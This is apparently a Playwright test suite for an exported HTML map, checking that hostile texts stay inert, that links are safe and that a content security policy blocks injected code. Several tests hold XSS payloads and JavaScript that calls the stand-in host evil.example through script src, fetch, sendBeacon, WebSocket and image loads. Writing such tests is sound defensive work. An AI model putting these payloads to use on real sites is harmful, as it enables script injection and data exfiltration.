"""Hostile texts, addresses and messages in the exported file: no script runs, no request leaves, the map works."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from geo.i18n import LANGS, LANGUAGES
from geo.map.document import write_document
from geo.model.dataset import Dataset
from geo.timeline.view import View
from tests.browser.pages import open_file
from tests.browser.watch import MESSAGES, count_messages, is_hacked, see_it_works, wait_for_messages
from tests.hostile_cases import TEXTS

CROSSING = "thanh-thuy-thien-bao"


@pytest.fixture(scope="session")
def hostile_file(hostile: Dataset, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("file") / "map.html"
    write_document(hostile, View(date(2020, 1, 1), lang="en", region="all"), path)
    return path


# Open each card and return its heading, and the names of all elements in the cards.
READ_CARDS = """async hashes => {
  const card = document.querySelector('.atlas-detail'), headings = [], elements = new Set();
  for (const hash of hashes) {
    const changed = new Promise(done => addEventListener('hashchange', done, {once: true}));
    location.hash = hash;
    await changed;
    headings.push(card.querySelector('h2').textContent);
    for (const each of card.querySelectorAll('*')) elements.add(each.localName);
  }
  return {headings, elements: [...elements]};
}"""


def test_texts_stay_texts_in_every_card_of_the_file(watched: Page, hostile_file: Path, hostile: Dataset) -> None:
    open_file(watched, hostile_file)
    names = {
        f"at=2026-01-01&lang={lang}&crossing={crossing.id}": LANGUAGES[lang].between_gates.join(
            getattr(gate.names, lang) or gate.names.en for gate in crossing.gates
        )
        for lang in LANGS
        for crossing in hostile.crossings
    }
    read = watched.evaluate(READ_CARDS, list(names))
    assert read["headings"] == list(names.values())
    elements = set(read["elements"])
    assert not elements & {"script", "img", "iframe", "input", "form", "style", "link", "meta", "base", "object"}
    assert elements <= {
        "a",
        "b",
        "button",
        "details",
        "summary",
        "circle",
        "div",
        "h2",
        "li",
        "ol",
        "p",
        "path",
        "rect",
        "span",
        "svg",
        "time",
    }
    see_it_works(watched)


def test_texts_stay_texts_in_provinces_search_layers_and_picture(watched: Page, hostile_file: Path) -> None:
    watched.goto(f"{hostile_file.as_uri()}#at=2026-01-01&lang=en&layers=works,twinned,scenic")
    for area in watched.locator(".atlas-province:not(.absent)").all():
        area.dispatch_event("click")
        expect(watched.locator(".atlas-detail h2")).not_to_be_empty()
    for shape in watched.locator(".atlas-works, .atlas-twinned").all()[:20]:
        shape.focus()
        expect(watched.locator(".atlas-tip").last).to_be_visible()
    for words in ("<script", "<img src=x onerror=window.hacked=1>", "javascript:", "${", "{{"):
        watched.get_by_role("combobox").fill(words)
        expect(watched.locator("#atlas-found")).to_be_visible()
    watched.get_by_role("combobox").press("Escape")
    watched.locator(".atlas-picture").click()
    for suffix in ("png", "svg"):
        with watched.expect_download() as saved:
            watched.locator(f"[data-do={suffix}]").click()
        assert saved.value.suggested_filename.endswith(suffix)
    assert not [each.tag for each in ElementTree.parse(saved.value.path()).iter() if "script" in each.tag]
    watched.keyboard.press("Escape")
    watched.pdf()
    see_it_works(watched)


def test_links_go_to_the_web_only_and_tell_nothing_of_us(watched: Page, our_file: Path) -> None:
    watched.goto(f"{our_file.as_uri()}#at=2026-01-01&crossing={CROSSING}")
    links = watched.locator(".atlas-detail a")
    expect(links.first).to_be_visible()
    for link in links.all():
        assert re.match("https?://", link.get_attribute("href") or "")
        assert link.get_attribute("target") == "_blank"
        assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer"}


def test_the_file_obeys_its_own_window_only(watched: Page, our_file: Path, tmp_path: Path) -> None:
    evil = f"""<script>
        const map = parent.frames[0]
        for (const message of {MESSAGES}) map.postMessage(message, "*")
        map.postMessage({{type: "atlas:view", query: "at=1999-01-01"}}, "*")
        parent.postMessage("sent", "*")
    </script>"""
    host = tmp_path / "host.html"
    host.write_text(
        f"""<!DOCTYPE html>
        <script>
            addEventListener("message", ({{ data }}) => {{ if (data === "sent") document.body.className = data }})
        </script>
        <iframe sandbox="allow-scripts" src="{our_file.as_uri()}#at=2001-01-01" width="1200" height="800"></iframe>
        <iframe id="other"></iframe>"""
    )
    watched.goto(host.as_uri())
    root = watched.frame_locator("iframe >> nth=0").locator("html")
    expect(root).to_have_class(re.compile("atlas-ready"))
    before = root.get_attribute("data-at")
    count_messages(watched.frames[1])
    watched.evaluate("evil => { document.querySelector('#other').srcdoc = evil }", evil)
    expect(watched.locator("body")).to_have_class("sent")
    watched.evaluate(f"() => {{ for (const message of {MESSAGES}) frames[0].postMessage(message, '*') }}")
    wait_for_messages(watched.frames[1], watched.evaluate(f"2 * {MESSAGES}.length + 1"))
    assert root.get_attribute("data-at") == before
    watched.evaluate("() => frames[0].postMessage({type: 'atlas:view', query: 'at=2003-04-05'}, '*')")
    expect(root).to_have_attribute("data-at", "2003-04-05")
    see_it_works(watched.frames[1])


def test_what_is_put_into_the_document_neither_runs_nor_loads(browser: Browser, our_file: Path) -> None:
    context = browser.new_context()
    page = context.new_page()
    left: list[str] = []

    def note(route: Route) -> None:  # requests that the policy blocks do not reach this route
        left.append(route.request.url)
        route.abort()

    page.route(re.compile("^(http|ws)"), note)
    page.goto(our_file.as_uri())
    expect(page.locator("html")).to_have_class(re.compile("atlas-ready"))
    page.evaluate(
        """texts => {
            window.stoppedOfTest = new Set()
            addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
                window.stoppedOfTest.add(`${effectiveDirective} ${blockedURI}`))
            for (const text of texts) {
                const place = document.createElement("div")
                place.innerHTML = text
                document.body.append(place)
            }
            const script = document.createElement("script")
            script.textContent = "window.hacked = 1"
            const outside = document.createElement("script")
            outside.src = "https://evil.example/script.js"
            document.head.append(script, outside)
            setTimeout(() => {
                try { new Function("window.hacked = 1")() } catch { /* as it should */ }
                try { setTimeout("window.hacked = 1") } catch { /* as it should */ }
                fetch("https://evil.example/").catch(() => {})
                navigator.sendBeacon("https://evil.example/", "x")
                try { new WebSocket("wss://evil.example/") } catch { /* as it should */ }
                new Image().src = "https://evil.example/picture.png"
                document.querySelector("form")?.submit()
                document.querySelector("a[href^=javascript]")?.click()
                setTimeout(() => { window.isAllTriedOfTest = true })
            })
        }""",
        [text for text in TEXTS if "<meta" not in text],  # a refresh navigates away, and no policy prevents it
    )
    page.wait_for_function(
        "ways => ways.every(way => window.stoppedOfTest.has(way))",
        arg=[
            "script-src-elem https://evil.example/script.js",
            "connect-src https://evil.example/",
            "connect-src wss://evil.example/",
            "img-src https://evil.example/picture.png",
            "script-src eval",
        ],
    )
    page.wait_for_function("window.isAllTriedOfTest")
    assert not is_hacked(page)
    assert left == []
    # Playwright would wait for the form's blocked navigation, so see_it_works() is not used here.
    day = """() => {
        const bar = document.querySelector("input[type=range].at")
        bar.value = Number(bar.value) - 1
        bar.dispatchEvent(new Event("input", { bubbles: true }))
        return document.documentElement.dataset.at
    }"""
    assert page.evaluate(day) == "2019-12-31"
    context.close()
